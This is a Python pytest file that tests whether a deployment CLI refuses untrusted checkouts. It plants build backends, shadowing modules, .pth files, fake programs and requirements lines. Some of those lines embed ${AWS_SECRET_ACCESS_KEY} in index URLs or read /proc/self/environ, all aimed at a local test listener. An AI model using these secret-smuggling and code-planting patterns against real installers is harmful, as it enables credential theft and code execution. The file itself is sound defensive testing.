"""Commands that only read, run with credentials in files of another party.

No code of theirs runs, nothing they name is downloaded, and nothing of the environment is sent or
printed.
"""

from __future__ import annotations

import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.faults.signals.conftest import server  # noqa: F401  (fixture)
from tests.integration.test_cli import CONFIG, Provision, home, provision  # noqa: F401  (fixtures)
from tests.unit.packaging.test_archive import write
from tests.unit.packaging.wheels import Listener, listening, make_wheel

LOOKING = (
    ("config", "check"),
    ("plan",),
    ("plan", "--json"),
    ("status",),
    ("refresh",),
    ("policy", "deployer"),
    ("policy", "boundary"),
)
SECRET = "precious-secret-of-the-deployer"
WITH_LAYER: dict[str, Any] = CONFIG | {
    "layers": {"more": {"source": "layer"}},
    "functions": {"items": CONFIG["functions"]["items"] | {"layers": ["more"]}},
}
BACKEND = """\
import pathlib
pathlib.Path({marker!r}).write_text("built")
def build_wheel(*_, **__): raise SystemExit(1)
"""


@pytest.fixture
def marker(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return the path of a file that hostile code would create."""
    return tmp_path_factory.mktemp("marker") / "ran"


@pytest.fixture
def heard(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Listener]:
    with listening(tmp_path_factory.mktemp("index")) as listener:
        yield listener


@pytest.fixture
def checkout(
    home: Path,  # noqa: F811
    marker: Path,
    monkeypatch: pytest.MonkeyPatch,
    tmp_path_factory: pytest.TempPathFactory,
) -> Path:
    """Return a stack with a layer, in which an installer would find sources that run when built."""
    (home / "config.yaml").write_text(yaml.safe_dump(WITH_LAYER, sort_keys=False))
    project = '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
    project += '[project]\nname = "evil"\nversion = "1.0"\n'
    for folder in ("layer", "layer/evil"):
        files = {"backend.py": BACKEND.format(marker=str(marker)), "pyproject.toml": project}
        write(home / folder, {**files, "setup.py": BACKEND.format(marker=str(marker))})
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", SECRET)
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path_factory.mktemp("cache")))
    return home


REQUIREMENTS = (
    "./evil",
    "-e ./evil",
    "evil @ {checkout}/layer/evil",
    "-r more.txt",
    "--no-binary :all:\nevil==1.0 --hash=sha256:{zeros}",
    "evil==1.0 --no-binary evil --hash=sha256:{zeros}",
    "--index-url {index}${{AWS_SECRET_ACCESS_KEY}}/\nsix==1.17.0 --hash=sha256:{zeros}",
    "--extra-index-url {index}${{AWS_SECRET_ACCESS_KEY}}/\nsix==1.17.0 --hash=sha256:{zeros}",
    "six @ {index}six-${{AWS_SECRET_ACCESS_KEY}}.whl",
    "--find-links {index}\nsix==1.17.0 --hash=sha256:{zeros}",
    "-r /proc/self/environ",
    "-c /proc/self/environ\nsix==1.17.0 --hash=sha256:{zeros}",
    "git+{index}evil.git",
)


@pytest.mark.parametrize("text", REQUIREMENTS)
def test_requirements_reach_no_installer(
    account: None,
    provision: Provision,  # noqa: F811
    checkout: Path,
    heard: Listener,
    marker: Path,
    text: str,
) -> None:
    text = text.format(checkout=checkout, index=heard.address, zeros="0" * 64)
    (checkout / "layer" / "requirements.txt").write_text(text)
    (checkout / "layer" / "more.txt").write_text("-e ./evil\n")
    for words in (*LOOKING, ("up", "--yes")):
        if words[0] == "policy":
            continue  # it asks for the names of things only, and reads no sources
        answer = provision(*words)
        assert answer.code in {1, 3}, words
        assert "requirements.txt:1: " in answer.out + answer.err
        assert SECRET not in answer.out + answer.err
    assert heard.asked == []
    assert not marker.exists()


OWN = "boto3 botocore click rich yaml pydantic msgspec filelock platformdirs packaging uv jmespath"
PYTHONS = "sitecustomize usercustomize tomllib graphlib secrets zipfile csv configparser tempfile"
PLANTED = "open({marker!r}, 'a').write(__name__ + chr(10))\n"
PROGRAM = "#!/bin/sh\necho ran >> {marker}\n"


def shadows(folder: Path, marker: Path) -> None:
    """Write modules and programs with the names that the tool uses, in the current directory."""
    for name in (OWN + " " + PYTHONS).split():
        (folder / f"{name}.py").write_text(PLANTED.format(marker=str(marker)))
    for name in ("uv", "bin/uv", ".venv/bin/uv", ".venv/bin/python", "git", "python3"):
        program = folder / name
        program.parent.mkdir(parents=True, exist_ok=True)
        program.write_text(PROGRAM.format(marker=marker))
        program.chmod(0o755)
    points = "[pydantic]\nevil = boto3\n[console_scripts]\nprovision = boto3:main\n"
    metadata = "Metadata-Version: 2.1\nName: evil\nVersion: 1\n"
    info = {"evil-1.dist-info/entry_points.txt": points, "evil-1.dist-info/METADATA": metadata}
    write(folder, {**info, "evil.pth": "import boto3\n", ".env": "PYTHONPATH=.\n"})
    code = PLANTED.format(marker=str(marker))
    write(
        folder / "code", {"app.py": f"{code}def handler(event, context): ...\n", "boto3.py": code}
    )


@pytest.mark.parametrize(
    ("how", "words"),
    [("module", words) for words in LOOKING if "--json" not in words] + [("script", ("plan",))],
)
def test_no_module_or_program_of_a_checkout_runs(
    server: None,  # noqa: F811
    checkout: Path,
    heard: Listener,
    marker: Path,
    tmp_path_factory: pytest.TempPathFactory,
    words: tuple[str, ...],
    how: str,
) -> None:
    wheels = tmp_path_factory.mktemp("wheels")
    wheel = make_wheel(wheels, "plain", {"plain.py": PLANTED.format(marker=str(marker))})
    settings = f'index-url = "{heard.address}"\nno-binary = [":all:"]\n'
    write(checkout / "layer", {"requirements.txt": wheel.pin})
    for folder in (checkout, checkout / "layer"):
        write(folder, {"uv.toml": settings, ".python-version": "3.12"})
    shadows(checkout, marker)
    if how == "script":  # which a package of our name in the checkout must not shadow either
        write(checkout, {"provision/__init__.py": PLANTED.format(marker=str(marker))})
    script = [str(Path(sys.executable).with_name("provision"))]
    command = [sys.executable, "-m", "provision"] if how == "module" else script
    given = {"UV_FIND_LINKS": str(wheels), "UV_NO_INDEX": "1", "UV_DEFAULT_INDEX": ""}
    environment = {name: value for name, value in os.environ.items() if name != "PYTHONPATH"}
    done = subprocess.run(
        [*command, *words],
        cwd=checkout,
        env={**environment, **{name: value for name, value in given.items() if value}},
        capture_output=True,
        text=True,
        check=False,
        stdin=subprocess.DEVNULL,
        timeout=120,
    )
    said = done.stdout + done.stderr
    assert done.returncode == 0, said
    assert not marker.exists(), marker.read_text()
    assert heard.asked == []
    assert SECRET not in said


def absolute(home: Path, elsewhere: Path) -> str:  # noqa: F811
    return str(elsewhere)


def upwards(home: Path, elsewhere: Path) -> str:  # noqa: F811
    return os.path.relpath(elsewhere, home)


def by_a_link(home: Path, elsewhere: Path) -> str:  # noqa: F811
    (home / "linked").symlink_to(elsewhere)
    return "linked"


def by_a_link_above(home: Path, elsewhere: Path) -> str:  # noqa: F811
    (home / "linked").symlink_to(elsewhere.parent)
    return f"linked/{elsewhere.name}"


@pytest.mark.parametrize("way", [absolute, upwards, by_a_link, by_a_link_above])
@pytest.mark.parametrize("part", ["functions", "layers"])
def test_a_source_is_below_the_configuration_unless_the_user_says_otherwise(
    account: None,
    provision: Provision,  # noqa: F811
    home: Path,  # noqa: F811
    tmp_path_factory: pytest.TempPathFactory,
    way: Any,
    part: str,
) -> None:
    """It could be `~/.aws`, which would then be deployed."""
    elsewhere = tmp_path_factory.mktemp("elsewhere")
    files = {"app.py": "def handler(event, context): ...\n", "requirements.txt": "x"}
    write(elsewhere, dict(files))
    named = {"source": way(home, elsewhere)}
    config = CONFIG | {"layers": {"more": {"source": "code"}}}
    (home / "code" / "requirements.txt").write_text(f"six==1 --hash=sha256:{'0' * 64}\n")
    if part == "functions":
        config["functions"] = {"items": CONFIG["functions"]["items"] | named}
    else:
        config["layers"] = {"more": named}
    (home / "config.yaml").write_text(yaml.safe_dump(config, sort_keys=False))
    for words in (each for each in LOOKING if each[0] != "policy"):
        answer = provision(*words)
        assert answer.code == 3
        assert "is outside of the folder of the configuration" in answer.out + answer.err
    (elsewhere / "requirements.txt").write_text(f"six==1 --hash=sha256:{'0' * 64}\n")
    assert provision("config", "check", "--allow-outside").code == 0


def test_what_only_removes_asks_for_no_source(
    account: None,
    provision: Provision,  # noqa: F811
    home: Path,  # noqa: F811
) -> None:
    config = CONFIG | {"functions": {"items": CONFIG["functions"]["items"] | {"source": "../x"}}}
    (home / "config.yaml").write_text(yaml.safe_dump(config, sort_keys=False))
    assert provision("down", "--yes").code == 0


@pytest.mark.parametrize("words", [*LOOKING, ("down", "--yes"), ("outputs",)], ids=" ".join)
def test_a_configuration_that_is_a_link_to_a_file_elsewhere_is_not_read(
    account: None,
    provision: Provision,  # noqa: F811
    home: Path,  # noqa: F811
    tmp_path_factory: pytest.TempPathFactory,
    words: tuple[str, ...],
) -> None:
    """An error in a configuration is reported with its text."""
    elsewhere = tmp_path_factory.mktemp("elsewhere")
    kept = (home / "config.yaml").rename(elsewhere / "config.yaml")
    kept.write_text(f"{kept.read_text()}\nprecious: token\n")
    (home / "config.yaml").symlink_to(kept)
    answer = provision(*words)
    assert answer.code == 3
    assert "a symbolic link out of its folder" in answer.out + answer.err
    assert "precious" not in answer.out + answer.err
    allowed = provision(*words, "--allow-outside")
    assert "precious" in allowed.out + allowed.err


def test_a_link_to_a_configuration_beside_it_is_one(
    provision: Provision,  # noqa: F811
    home: Path,  # noqa: F811
) -> None:
    (home / "config.yaml").rename(home / "other.yaml")
    (home / "config.yaml").symlink_to("other.yaml")
    assert provision("config", "check").code == 0
